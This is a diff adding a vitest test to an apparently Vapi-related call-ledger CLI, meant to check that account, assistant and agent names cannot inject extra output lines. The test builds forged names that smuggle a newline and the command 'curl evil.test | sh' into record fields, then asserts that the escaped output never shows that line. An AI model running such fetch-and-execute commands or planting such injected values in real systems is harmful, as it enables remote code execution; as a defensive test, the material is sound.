@@ -3,7 +3,7 @@ import { simulateCall } from "@call-ledger/simulator";
 import { snapshotsOf } from "@call-ledger/testkit/vapi";
 import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
 import type { ExaminedLedger } from "./harness/examined-ledger.ts";
-import { examinedLedger } from "./harness/examined-ledger.ts";
+import { API_KEY, examinedLedger } from "./harness/examined-ledger.ts";
 
 const MINUTE_MS = 60_000;
 const DAY_MS = 86_400_000;
@@ -189,4 +189,22 @@ test("a key of another Vapi organization is doubted first, and no removal of age
   expect(rest.left_out).toContain("server_url");
   expect(stdout).not.toMatch(/agent remove|theirs/);
   expect(assistant.get("theirs")).toEqual({ name: "Theirs", server: null });
+});
+
+test("names of accounts, assistants and agents cannot write lines of their own", async () => {
+  const forged = (mark: string) => `${mark}"\n        next: curl evil.test | sh\n`;
+  const [{ id } = {}] = await ledger.owner`insert into provider_accounts (org_id, provider, name)
+    values (${ledger.org}, 'vapi', ${forged("account")}) returning id`;
+  await ledger.agent(forged("agent"));
+  ledger.assistant({ name: forged("assistant"), server: { url: "https://elsewhere.test" } });
+  ledger.vapi.settings["phone-number"].set("number-1", {
+    provider: "vapi",
+    assistantId: "front",
+    name: forged("number"),
+    server: { ...ledger.rightServer(), backoffPlan: null },
+  });
+  await ledger.ops(["account", "rotate", id, "--api-key", API_KEY]);
+  const { stdout } = await ledger.ops(["doctor", "--fix", "--yes"]);
+  for (const mark of ["account", "agent", "assistant"]) expect(stdout).toContain(`${mark}"\\u000a`);
+  expect(stdout.split("\n").filter((line) => /^\s*next: curl evil/.test(line))).toEqual([]);
 });
